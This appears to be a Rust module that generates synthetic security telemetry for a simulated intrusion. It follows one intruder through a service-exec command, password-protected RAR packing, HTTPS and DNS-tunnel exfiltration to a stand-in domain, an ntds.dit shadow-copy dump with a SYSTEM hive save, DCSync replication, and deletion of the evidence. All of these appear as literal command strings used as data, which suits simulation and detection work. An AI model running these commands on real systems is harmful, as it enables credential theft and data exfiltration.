//! What A gathers and carries out: the file server's documents (twice, the second time unseen by the machine's own
//! logs), the directory, and a few papers through DNS.

use super::super::chronicle::{Chronicle, Intruder};
use super::super::clock::{after, minutes};
use super::super::network::{APP01, DC01, DC02, FS01, SVC_BACKUP};
use super::super::security::{Audited, Origin};
use super::super::sysmon::Launch;
use super::super::windows::Session;
use super::super::zeek::Traffic;
use super::{CMD, DROP, at, deed};

/// The domain of the DNS tunnel.
const TUNNEL: &str = "t1.cdn-metrics.example";
/// Letters that a tunnel's names are made of.
const BASE32: &[u8] = b"abcdefghijklmnopqrstuvwxyz234567";

/// Does this part.
pub fn tell(c: &mut Chronicle) {
    rob_file_server(c);
    rob_directory(c);
    replicate(c);
    tunnel(c);
    rob_again(c);
}

fn rob_file_server(c: &mut Chronicle) {
    let time = at(c, "2023-03-18T21:10:00Z");
    let account = SVC_BACKUP.account;
    let session = c.session(&SVC_BACKUP, &FS01).raised();
    let system = Session::system(&FS01);
    let what = "The backup's account logs on to the file server from the registry server.";
    let logon = deed("T1078.002", &FS01, account, what).towards("lateral-movement");
    c.step(logon.from(&APP01), |c| {
        c.logged_on(time, &session, 3, Origin::kerberos(&APP01));
    });
    let what = "A service is created on the file server to run a command as SYSTEM.";
    let cmd = c.step(deed("T1569.002", &FS01, account, what), |c| {
        let command = "%COMSPEC% /Q /c echo dir D:\\Shares ^> \\\\127.0.0.1\\C$\\__out 2^>^&1 > \
                       %TEMP%\\exe.bat & %COMSPEC% /Q /c %TEMP%\\exe.bat";
        let time = after(time, 4_000);
        c.service_installed(time, &session, "WinUpdSrv", command, Audited::Yes);
        let traffic =
            Traffic { service: "gssapi,smb,dce_rpc", millis: 800, sent: 6_000, received: 4_200 };
        let flow = c.flow(after(time, -300), APP01.address, FS01.address, 445, traffic);
        c.called(&flow, "\\pipe\\svcctl", "svcctl", "CreateServiceW");
        let image = "C:\\Windows\\System32\\services.exe";
        let services = c.running(&system, image, "C:\\Windows\\system32\\services.exe");
        let line = "C:\\Windows\\system32\\cmd.exe /Q /c C:\\Windows\\TEMP\\exe.bat";
        c.start(after(time, 500), &system, &services, Launch::of(CMD, line))
    });
    let time = after(time, minutes(26));
    let what = "A renamed RAR packs the political section's documents with a password.";
    c.step(deed("T1560.001", &FS01, "SYSTEM", what), |c| {
        let line = "C:\\ProgramData\\Intel\\igfxsvc.exe a -r -m3 -v200m -ta20220801000000 \
                    -hpZe7tra!Vlt C:\\ProgramData\\Intel\\Logs\\gfx.dat D:\\Shares\\Politicka\\*.docx";
        let image = "C:\\ProgramData\\Intel\\igfxsvc.exe";
        let launch = Launch { really: "rar.exe", ..Launch::of(image, line) };
        let packer = c.start(time, &system, &cmd, launch);
        for part in 1..=4_i64 {
            let file = format!("C:\\ProgramData\\Intel\\Logs\\gfx.part{part}.dat");
            c.file_created(after(time, part * 88_000), &packer, &file);
        }
        let all = (3_412, 1_904_220_116);
        c.took_files(Intruder::A, time, (&FS01.fqdn(), "D:\\Shares\\Politicka"), all);
    });
    let time = at(c, "2023-03-19T01:20:00Z");
    let what = "Some 800 MB leave over HTTPS at night.";
    c.step(deed("T1048.002", &FS01, "SYSTEM", what), |c| {
        let traffic =
            Traffic { service: "ssl", millis: 1_910_000, sent: 812_440_120, received: 3_120_448 };
        let flow = c.flow(time, FS01.address, DROP.1, 443, traffic);
        c.shook_hands(&flow, DROP.0, "self signed certificate");
        c.sent_out(Intruder::A, &flow);
    });
}

fn rob_directory(c: &mut Chronicle) {
    let time = at(c, "2023-06-03T22:02:00Z");
    let account = SVC_BACKUP.account;
    let session = c.session(&SVC_BACKUP, &DC01).raised();
    let cmd = c.running(&session, CMD, "cmd.exe");
    let steps = [
        (
            "T1003.003",
            "vssadmin.exe",
            "vssadmin  create shadow /for=C:",
            "A shadow copy of the domain controller's disk is made.",
        ),
        (
            "T1003.003",
            "cmd.exe",
            "cmd.exe /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Windows\\NTDS\\\
             ntds.dit C:\\Windows\\Temp\\mpcache.bin",
            "The directory's database is copied out of the shadow copy.",
        ),
        (
            "T1003.002",
            "reg.exe",
            "reg  save HKLM\\SYSTEM C:\\Windows\\Temp\\mpcache2.bin",
            "The registry hive with the database's key is saved.",
        ),
    ];
    c.logged_on(after(time, -4_000), &session, 3, Origin::kerberos(&APP01));
    for (index, (technique, program, line, what)) in (0_i64..).zip(steps) {
        let time = after(time, index * 47_000);
        c.step(deed(technique, &DC01, account, what).from(&APP01), |c| {
            let image = format!("C:\\Windows\\System32\\{program}");
            c.start(time, &session, &cmd, Launch::of(&image, line));
        });
    }
}

fn replicate(c: &mut Chronicle) {
    let time = at(c, "2023-09-02T23:31:00Z");
    let account = SVC_BACKUP.account;
    let what = "The directory's secrets are replicated by an account that is no controller.";
    let session = c.session(&SVC_BACKUP, &DC02).raised();
    c.step(deed("T1003.006", &DC02, account, what).from(&APP01), |c| {
        c.replicated(time, &session);
        let traffic = Traffic { service: "dce_rpc", millis: 400, sent: 3_700, received: 61_000 };
        let flow = c.flow(after(time, -30), APP01.address, DC02.address, 49_671, traffic);
        c.called(&flow, "49671", "drsuapi", "DRSGetNCChanges");
    });
}

fn tunnel(c: &mut Chronicle) {
    let time = at(c, "2024-07-20T00:40:00Z");
    let what = "Documents leave hidden in the names of DNS queries.";
    c.step(deed("T1048.003", &APP01, "SYSTEM", what), |c| {
        let mut time = time;
        for number in 0..70 {
            let (one, two) = (c.random.letters(54, BASE32), c.random.letters(52, BASE32));
            let query = format!("{number:04x}{one}.{two}.{TUNNEL}");
            let answer = format!("TXT 12 {}", c.random.letters(12, BASE32));
            c.asked(time, APP01.address, &query, "TXT", &answer);
            time = after(time, c.random.millis(400, 2_600));
        }
        // Seventy names of some 106 letters, five bits each.
        c.took_files(Intruder::A, time, (&APP01.fqdn(), "D:\\Spisovka"), (2, 4_630));
    });
}

/// The file server's own logs of these weeks never came.
fn rob_again(c: &mut Chronicle) {
    let time = at(c, "2024-10-19T22:12:00Z");
    let account = SVC_BACKUP.account;
    let session = c.session(&SVC_BACKUP, &FS01).raised();
    let cmd = c.running(&session, CMD, "cmd.exe");
    let what = "The backup's account logs on to the file server once more.";
    let logon = deed("T1078.002", &FS01, account, what).towards("lateral-movement");
    c.step(logon.from(&APP01), |c| {
        c.logged_on(time, &session, 3, Origin::kerberos(&APP01));
    });
    let time = after(time, minutes(7));
    let what = "The cabinet's and the economic section's documents are packed with a password.";
    c.step(deed("T1560.001", &FS01, account, what), |c| {
        let line = "C:\\ProgramData\\Intel\\igfxsvc.exe a -r -m5 -v200m -hpZe7tra!Vlt \
                    C:\\ProgramData\\Intel\\Logs\\gfx2.dat D:\\Shares\\Kabinet D:\\Shares\\Ekonomicka";
        let image = "C:\\ProgramData\\Intel\\igfxsvc.exe";
        let launch = Launch { really: "rar.exe", ..Launch::of(image, line) };
        c.start(time, &session, &cmd, launch);
        for share in [("D:\\Shares\\Kabinet", (1_118, 690_400_220)), ("D:\\Shares\\Ekonomicka", (788, 655_121_004))] {
            c.took_files(Intruder::A, time, (&FS01.fqdn(), share.0), share.1);
        }
    });
    let time = after(time, minutes(55));
    let what = "Some 1.1 GB leave over HTTPS in the same night.";
    c.step(deed("T1048.002", &FS01, "SYSTEM", what), |c| {
        let traffic =
            Traffic { service: "ssl", millis: 2_410_000, sent: 1_127_300_442, received: 4_020_118 };
        let flow = c.flow(time, FS01.address, DROP.1, 443, traffic);
        c.shook_hands(&flow, DROP.0, "self signed certificate");
        c.sent_out(Intruder::A, &flow);
    });
    let time = after(time, minutes(50));
    let what = "The archives are deleted.";
    c.step(deed("T1070.004", &FS01, account, what), |c| {
        let line = "cmd.exe /c del /q C:\\ProgramData\\Intel\\Logs\\gfx2*.dat";
        c.start(time, &session, &cmd, Launch::of(CMD, line));
    });
}
